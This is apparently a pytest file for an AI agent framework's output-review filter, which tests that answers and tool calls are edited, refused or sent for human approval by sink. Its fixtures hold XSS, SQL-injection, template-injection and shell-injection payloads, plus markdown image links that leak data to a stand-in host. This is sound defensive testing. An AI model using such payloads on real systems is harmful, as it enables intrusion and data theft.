"""Output review: what is found at which sink, what becomes of it, and that an answer is shown only when judged."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest

from llmagent_os.core.errors import PermissionDenied
from llmagent_os.core.life import Life
from llmagent_os.core.records import NOTHING, Answer, Call, Chunk, GenerateRequest, Generation, Message, Question, Usage
from llmagent_os.security import review as reviewing
from llmagent_os.security.recognisers import recognise
from llmagent_os.security.review import Action, Finding, Review, Rules, Sink
from llmagent_os.security.vault import Vault

FINE: list[tuple[Sink, str]] = [
    ("markdown", "See [the docs](https://example.com) and ![ours](/chart.png) and ![a](https://cdn.example.com/a.png)"),
    ("html", "<p>1 &lt; 2, <b>on time</b> = good</p><img src='/a.png'><a href=\"https://example.com/x\">x</a>"),
    ("html", "if a < b and online=1 then c > d"),
    ("sql", "SELECT name, 'it''s; -- fine' FROM t WHERE a = 1 OR b = 2;"),
    ("template", "a { b } $5"), ("shell", "report 2024.txt"), ("code", "print(evaluate(1) + 2)  # os path"),
    ("text", "<script>alert(1)</script> {{ x }}; rm -rf /"),
]  # fmt: skip
BAD: list[tuple[Sink, str, Action]] = [
    ("markdown", "![x](https://evil.example/?q=secret)", "edit"),
    ("markdown", "![x](<//evil.example/a.png> 'title')", "edit"),
    ("markdown", "![x][1]\n[1]: https://evil.example/a.png", "edit"),
    ("markdown", "[here]( javascript:alert(1))", "edit"),
    ("html", "<script>alert(1)</script>", "edit"),
    ("html", "<img/src=x/onerror=alert(1)>", "edit"),
    ("html", "<a href='jav&#x61;script:alert(1)'>x</a>", "edit"),
    ("html", "<a href='java\tscript:alert(1)'>x</a>", "edit"),
    ("html", "<IMG SRC=https://evil.example/a.png>", "edit"),
    ("html", "<p style=\"background:url(//evil.example)\">", "edit"),
    ("html", "<iframe srcdoc='x'>", "edit"),
    ("sql", "SELECT 1; DROP TABLE users", "ask"),
    ("sql", "SELECT * FROM users WHERE name = 'x' OR 1=1 --'", "ask"),
    ("sql", "SELECT a FROM b UNION ALL SELECT password FROM users", "ask"),
    ("sql", "SELECT 1 /* hidden */", "ask"), ("sql", "SELECT 'open", "ask"), ("sql", "SELECT pg_sleep(9)", "ask"),
    ("template", "{{ config.items() }}", "refuse"), ("template", "${7*7}", "refuse"),
    ("template", "<%= x %>", "refuse"),
    ("shell", "a.txt; rm -rf /", "refuse"), ("shell", "$(id)", "refuse"), ("shell", "`id`", "refuse"),
    ("shell", "a\nb", "refuse"),
    ("shell", "--output=/etc/passwd", "refuse"), ("shell", "../../etc/passwd", "refuse"),
    ("code", "__import__('os').system('id')", "ask"), ("code", "().__class__.__bases__", "ask"),
    ("code", "import subprocess", "ask"),
]  # fmt: skip


@pytest.mark.parametrize(("sink", "text"), FINE)
async def test_what_is_harmless_at_its_sink_passes(sink: Sink, text: str) -> None:
    judged = await Review(Rules(hosts=("example.com",))).judge(text, sink)
    assert (judged.action, judged.text, judged.findings) == ("allow", text, ())


@pytest.mark.parametrize(("sink", "text", "action"), BAD)
async def test_what_a_sink_would_act_on_is_found(sink: Sink, text: str, action: Action) -> None:
    judged = await Review(Rules(hosts=("example.com",))).judge(text, sink)
    assert judged.action == action and judged.findings[0].rule == sink
    if action == "edit":
        assert judged.text != text and (await Review().judge(judged.text, sink)).action == "allow"


async def test_secrets_tokens_and_other_peoples_values_are_taken_out() -> None:
    vault = Vault(b"k" * 32)
    token = vault.token("t", "PHONE", "13912345678")
    vault.token("t", "CARD", "4111 1111 1111 1111")
    review = Review(vault=vault)
    text = f"Key AKIAIOSFODNN7EXAMPLE, phone 13912345678, card 4111111111111111, {token}"
    judged = await review.judge(text, "text", "t", known="my phone is 13912345678")
    assert judged.text == "Key <KEY>, phone 13912345678, card <CARD>, <PHONE>"
    assert [each.rule for each in judged.findings] == ["secret", "token", "vault"]
    assert (await review.judge("card 4111111111111111", "text", "u", known="")).action == "allow"


async def test_phrases_and_topics_are_whole_and_in_any_case() -> None:
    rules = Rules(("Project X", "机密"), {"gambling": ("casino", "赌博")}, actions={"phrase": "edit"})
    review = Review(rules)
    assert (await review.judge("about project  x.", "text")).text == "about …."
    assert (await review.judge("这是机密文件", "text")).text == "这是…文件"
    assert (await review.judge("the CASINO, 赌博", "text")).action == "refuse"
    assert (await review.judge("casinos, project xy", "text")).action == "allow"


async def test_classifiers_and_judges_can_only_be_stricter() -> None:
    asked: list[str] = []

    async def judge(text: str, sink: Sink) -> Finding | None:
        asked.append(text)
        return Finding("rude", "it is rude", action="refuse") if "idiot" in text else None

    def classify(text: str) -> list[Finding]:
        return [Finding("advice", "it gives advice", action="ask")] if "invest" in text else []

    review = Review(Rules(("forbidden",)), classifiers=[classify], judges=[judge])
    verdicts = [(await review.judge(t, "text")).action for t in ("hi", "invest", "invest, idiot", "forbidden")]
    assert verdicts == ["allow", "ask", "refuse", "refuse"] and asked == ["hi", "invest", "invest, idiot"]


HOSTILE: list[tuple[Sink, str]] = [
    ("html", "<" + " " * 200), ("html", "< "), ("html", "<a style="), ("html", "<a src= "), ("html", "<&#x"),
    ("markdown", "!["),
    ("markdown", "[](javascript:"), ("markdown", "![a](b "), ("sql", "$a$ "), ("sql", "'a"), ("sql", "or 1"),
    ("sql", "union "),
    ("shell", "1 "), ("code", "os."), ("template", "{ {"), ("text", "project "), ("text", "<EMAIL_"), ("text", "4111 "),
]  # fmt: skip


@pytest.mark.parametrize(("sink", "piece"), HOSTILE)
async def test_no_text_takes_long_to_judge(sink: Sink, piece: str) -> None:
    text, vault = piece * (60_000 // len(piece)), Vault(b"k" * 32)
    vault.token("t", "CARD", "4111 4111 4111 4111")
    began = time.process_time()
    await Review(Rules(("project x",)), vault).judge(text, sink, "t", known=text)
    assert (time.process_time() - began) / len(text) < 20e-6


async def test_the_loop_goes_on_while_a_long_answer_is_judged() -> None:
    review, ticks = Review(), 0
    work = asyncio.ensure_future(review.judge("lorem ipsum dolor sit amet " * 20_000 + "AKIAIOSFODNN7EXAMPLE", "html"))
    while not work.done():
        await asyncio.sleep(0.001)
        ticks += 1
    assert ticks > 5 and (await work).text.endswith("<KEY>")


async def test_a_statement_too_long_to_judge_is_asked_about() -> None:
    judged = await Review().judge("SELECT 1 " * 10_000, "sql")
    assert judged.action == "ask" and "longer than" in judged.findings[0].why


async def test_an_edit_without_a_place_is_a_refusal() -> None:
    review = Review(Rules(actions={"sql": "edit"}))
    assert (await review.judge("SELECT 1; SELECT 2", "sql")).action == "refuse"


# -- at the door


def call(name: str, **args: Any) -> Call:
    """A call on its way."""
    return Call(1, name, args, "key", "t", "p", 60.0)


class Looked(SimpleNamespace):
    """Can be held weakly, as a process can."""

    __hash__ = object.__hash__


def process(service: str | None = None) -> Any:
    """As much of a process as a filter looks at."""
    return Looked(pid=1, name="a", service=service, turn=0, turn_began=0.0, asking=0, life=Life("running"))


def answering(text: str) -> Callable[[Call], Any]:
    """A handler of `generate` that streams a text word by word."""

    async def proceed(passed: Call) -> Generation:
        for word in text.split(" "):
            if passed.stream is not None:
                passed.stream(Chunk(word + " "))
        if passed.stream is not None:
            passed.stream(Chunk(finish="stop", usage=Usage(1, 2)))
        return Generation(text + " ")

    return proceed


REQUEST = GenerateRequest("m", (Message("user", "hi"),))


async def streamed(text: str, review: Review) -> tuple[Generation, list[Chunk], Call]:
    """An answer under review and what its watcher saw."""
    shown: list[Chunk] = []
    made = call("generate", request=REQUEST)
    made.stream = shown.append
    return await review(made, process(), answering(text)), shown, made


async def test_an_answer_that_is_fine_is_shown_as_it_came() -> None:
    answer, shown, _ = await streamed("all is well", Review())
    assert answer.text == "all is well "
    assert shown[:4] == [NOTHING] * 4 and [c.text for c in shown[4:]] == ["all ", "is ", "well ", ""]


async def test_an_answer_that_is_edited_is_shown_edited_only() -> None:
    answer, shown, made = await streamed("use AKIAIOSFODNN7EXAMPLE now", Review())
    assert answer.text == "use <KEY> now " == "".join(c.text for c in shown) and shown[-1].finish == "stop"
    assert made.labels == ("review:edit:secret",)


async def test_an_answer_that_is_refused_is_not_shown() -> None:
    shown: list[Chunk] = []
    made = call("generate", request=REQUEST)
    made.stream = shown.append
    with pytest.raises(PermissionDenied, match="phrase: forbidden"):
        await Review(Rules(("forbidden",)))(made, process(), answering("a forbidden word"))
    assert set(shown) == {NOTHING} and made.stream == shown.append


class Boss:
    """Approves of what it is told to, and remembers."""

    def __init__(self, allows: bool) -> None:
        self.allows, self.asked = allows, list[Question]()

    async def ask(self, question: Question) -> Answer:
        self.asked.append(question)
        return Answer(self.allows)


async def test_a_person_is_asked_with_the_text_in_question() -> None:
    rules = Rules(sinks={"d*": {"query": "sql"}})
    statement = "SELECT 1; DROP TABLE t"

    async def proceed(passed: Call) -> Any:
        return passed.args["arguments"]

    boss = Boss(True)
    made = call("call", tool="db", arguments={"query": statement, "other": ";"})
    assert (await Review(rules, approver=boss)(made, process(), proceed))["query"] == statement
    assert boss.asked[0].tool == "db" and boss.asked[0].arguments == {"text": statement}
    for refusing in (Review(rules, approver=Boss(False)), Review(rules)):
        with pytest.raises(PermissionDenied, match="more than one statement"):
            await refusing(made, process(), proceed)
    free = call("call", tool="notes", arguments={"query": statement})
    assert await Review(rules)(free, process(), proceed) == {"query": statement}


async def test_what_an_agent_sends_is_edited_on_its_way_and_kept_as_it_was() -> None:
    async def proceed(passed: Call) -> Any:
        return passed.args["body"]

    body = {"text": "![x](https://evil.example/?d=1)", "parts": [{"text": "fine"}, 5]}
    made = call("send", to="task/1", body=body)
    assert await Review()(made, process(), proceed) == {"text": "x", "parts": [{"text": "fine"}, 5]}
    assert made.args["body"] is body
    assert await Review()(made, process("api"), proceed) is body  # people may write what they like


def test_no_secret_of_an_edit_is_left() -> None:
    assert not recognise("use <KEY> now")


@pytest.mark.parametrize("text", ["![" * 300_000, "[" * 600_000, "![a" * 200_000, "[a](" * 150_000, "](" * 300_000])
async def test_brackets_that_only_open_cost_nothing(text: str) -> None:
    began = time.process_time()
    found = [each for each in reviewing._markdown(text, ()) if "more than" not in each.why]
    assert not found and time.process_time() - began < 2.0  # it was some thousand steps a bracket


def test_more_links_than_anybody_reads_are_refused_as_they_cannot_be_looked_at() -> None:
    found = list(reviewing._markdown("[a](b)" * (reviewing._LINKS + 1), ()))
    assert [each.why for each in found] == ["more than 20,000 links"] and found[0].end == 0


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("![a](http://e.example/x)", ["![a](http://e.example/x)"]), ("![a][b]", ["![a][b]"]), ("[a](/b)", []),
        ("![a \\[b](//e.example/x) [c](javascript:d)", ["![a \\[b](//e.example/x)", "[c](javascript:d)"]),
        ("![![a](//e.example/x)", ["![![a](//e.example/x)"]), ("![a](b)![c](//d.example)", ["![c](//d.example)"]),
        (f"![{'a' * 501}](//e.example/x)", []), (f"![{'a' * 500}](//e.example/x)", [f"![{'a' * 500}](//e.example/x)"]),
        ("![a] (//e.example/x)", []), ("[a]b](data:c)", []), ("![](//e.example/x)", ["![](//e.example/x)"]),
    ],
)  # fmt: skip
def test_pictures_and_links_that_run_are_found_by_where_their_text_ends(text: str, found: list[str]) -> None:
    assert [text[each.start : each.end] for each in reviewing._markdown(text, ())] == found
